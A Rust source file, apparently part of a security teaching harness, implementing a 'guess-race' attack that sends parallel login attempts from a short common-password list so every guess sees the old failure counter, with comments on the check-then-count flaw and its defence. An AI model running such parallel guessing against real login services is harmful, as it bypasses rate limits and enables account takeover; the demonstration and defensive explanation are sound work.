//! Guesses passwords in parallel, to be faster than the counter.
//!
//! # Flaw
//! A server may check a password first and count it afterwards. Then many guesses can be under way at the same time,
//! and all of them see the old counter.
//!
//! # Attack
//! Prove the stolen key on four connections at once, with a password of the list on each. Then the next four.
//!
//! # What it proves
//! "Check, then count" is a race. A limit must be charged before the work that it limits, not afterwards.
//!
//! # Defence
//! The server checks the passwords of one user one after the other. A login waits for its turn before its password is
//! hashed, and sees the counter as the previous login left it.
//!
//! # In the wild
//! CWE-362 and CWE-367, "time of check, time of use". Limits on one-time codes and vouchers have been bypassed with
//! many requests in one packet.

use std::time::Duration;

use futures_util::future::join_all;
use tokio::time::sleep;

use crate::{
    Attack, Claim, Faithful, Goal, Loot, Run, Story,
    peer::{Login, greet, show},
    protocol::hardened::defence::Defence,
    vantage::Outsider,
};

/// The registry's line.
pub const ATTACK: Attack = Attack {
    id: "guess-race",
    title: "guess passwords in parallel, faster than the server counts",
    goal: Goal::Guess,
    vantage: "a client of the server who has the victim's private key and a list of passwords",
    loot: &[Loot::UserKey],
    faithful: Faithful::DoesNotApply("the faithful protocol has no passwords"),
    returns_without: &[&[Defence::Throttling], &[Defence::Password]],
    run: Run::Dial {
        faithful: None,
        hardened: |outsider, story| Box::pin(race(outsider, story)),
    },
    ..Attack::PLAIN
};

/// The likeliest passwords of at least eight characters. The victim's is the eighth.
const LIST: [&str; 8] = [
    "password",
    "12345678",
    "qwertyuiop",
    "iloveyou",
    "sunshine",
    "letmein1",
    "trustno1",
    "correct horse battery staple",
];
/// The connections that are not logged in and that one source may have.
const AT_ONCE: usize = 4;

async fn race(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    for passwords in LIST.chunks(AT_ONCE) {
        // A millisecond apart is parallel for a server that takes a hundred, and lets a run repeat.
        let guesses = passwords.iter().zip(0..).map(async |(password, nth)| {
            sleep(Duration::from_millis(nth)).await;
            guess(outsider, password).await
        });
        let answers = join_all(guesses).await;
        let quoted: Vec<String> = passwords.iter().map(|text| format!("\"{text}\"")).collect();
        let all = quoted.join(", ");
        story.tell(format!("Mallory -> server, in parallel: {all}"));
        let right = answers
            .into_iter()
            .position(|answer| matches!(answer, Ok(true)));
        if let Some(place) = right {
            story.tell(format!(
                "server -> Mallory: \"{}\" is right",
                passwords[place]
            ));
            return Ok(Claim::logged_in(outsider.user, None));
        }
        story.tell("server -> Mallory: all refused");
    }
    Ok(Claim::Nothing)
}

/// Whether the server believed it.
async fn guess(outsider: &Outsider<'_>, password: &str) -> anyhow::Result<bool> {
    let Some(key) = &outsider.user_key else {
        return Ok(false);
    };
    let (stream, trusted) = greet(outsider).await?;
    let login = show(stream, trusted, outsider.user, &**key, password.as_bytes()).await?;
    Ok(matches!(login, Login::Accepted(_)))
}
